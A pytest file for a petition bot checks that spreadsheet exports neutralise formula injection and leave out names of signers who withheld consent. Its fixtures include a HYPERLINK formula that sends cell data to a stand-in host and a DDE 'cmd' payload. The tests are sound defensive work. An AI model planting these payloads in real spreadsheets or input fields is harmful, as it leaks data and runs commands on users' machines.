"""Exports are safe to open, and the hand-over holds counts plus only names said yes to.

A name typed as a spreadsheet formula must reach the organizer's spreadsheet as text;
a signer who did not say yes to the hand-over list appears in counts only: neither their
name nor their organisation is in any export.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from jfa_bot.app import JfaApplication
from jfa_bot.exports import safe_cell
from jfa_bot.handlers.info import privacy_text
from jfa_bot.i18n import Translator
from jfa_bot.sandbox import BotApiServer
from tests.conftest import ADMIN_ID
from tests.e2e.test_organizer import export
from tests.e2e.test_petition import sign

EN = Translator.for_locale("en")
FORMULAS = (
    '=HYPERLINK("https://x.example/?a="&A1,"Verify")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1)",
)
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def _assert_no_formula(data: bytes, where: str) -> None:
    for row in _cells(data):
        for cell in row:
            assert not cell.startswith(DANGEROUS), (where, cell)


async def test_names_typed_as_formulas_reach_every_export_as_text(
    sandbox: BotApiServer, bot: JfaApplication
) -> None:
    first = sandbox.user(5001, language_code="en")
    await first.ask("/start s_-1-1")  # a campaign source that looks like a formula
    await sign(
        first,
        name=FORMULAS[0],
        country_query="Kenya",
        country="KE",
        organisation=FORMULAS[2],
    )
    second = sandbox.user(5002, language_code="en")
    await sign(second, name=FORMULAS[1], country_query="Kenya", country="KE")
    admin = sandbox.user(ADMIN_ID, language_code="en")
    signatures = await export(admin, sandbox, "📄 Signatures (CSV)")
    _assert_no_formula(signatures, "signatures.csv")
    assert b"'=HYPERLINK(" in signatures and b"'+cmd|" in signatures
    assert b",'-1-1" in signatures and b",'@SUM(A1)," in signatures
    rows = list(csv.DictReader(io.StringIO(signatures.decode("utf-8-sig"))))
    assert rows[0]["name"] == "'" + FORMULAS[0]  # shown as typed, never run
    pack = zipfile.ZipFile(
        io.BytesIO(await export(admin, sandbox, "🗂 Hand-over pack by country (ZIP)"))
    )
    for member in pack.namelist():
        if member.endswith(".csv"):
            _assert_no_formula(pack.read(member), member)
    assert b"'=HYPERLINK(" in pack.read("KE.csv") and b"'+cmd|" in pack.read("KE.csv")


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1-1", "'-1-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tA", "'\tA"),
        ("\r=1", "'\r=1"),
        ("Amina", "Amina"),
        (7, 7),
    ],
)
def test_every_cell_that_a_spreadsheet_would_run_gets_an_apostrophe(
    typed: object, written: object
) -> None:
    assert safe_cell(typed) == written


async def test_the_handover_has_counts_and_only_the_names_and_organisations_said_yes_to(
    sandbox: BotApiServer, bot: JfaApplication
) -> None:
    yes = sandbox.user(5003, language_code="en")
    await sign(yes, name="Said Yes", country_query="Kenya", country="KE", organisation="Open Org")
    no = sandbox.user(5004, language_code="en")
    [intro] = await no.ask("/sign")
    assert "number of signatures" in intro.plain  # what signing means, said first
    await no.ask("/cancel")
    await sign(
        no,
        name="Said No",
        country_query="Kenya",
        country="KE",
        organisation="Quiet Org",
        withheld=True,
    )
    admin = sandbox.user(ADMIN_ID, language_code="en")
    pack_bytes = await export(admin, sandbox, "🗂 Hand-over pack by country (ZIP)")
    pack = zipfile.ZipFile(io.BytesIO(pack_bytes))
    everything = b"".join(pack.read(name) for name in pack.namelist())
    assert b"Said No" not in everything and b"Quiet Org" not in everything
    kenya = list(csv.DictReader(io.StringIO(pack.read("KE.csv").decode("utf-8-sig"))))
    assert [(r["name"], r["organisation"]) for r in kenya] == [("Said Yes", "Open Org")]
    summary = list(csv.DictReader(io.StringIO(pack.read("summary.csv").decode("utf-8-sig"))))
    assert summary[0]["signatures"] == "2"
    about = pack.read("README.txt").decode()
    assert "number of signatures" in about and "said\nyes" in about
    signatures = await export(admin, sandbox, "📄 Signatures (CSV)")
    assert b"Said No" not in signatures and b"Quiet Org" not in signatures


def test_the_privacy_notice_says_counts_are_shared_and_names_only_on_a_yes() -> None:
    text = privacy_text(EN)
    assert "number of signatures" in text
    assert "name and organisation" in text and "said yes" in text
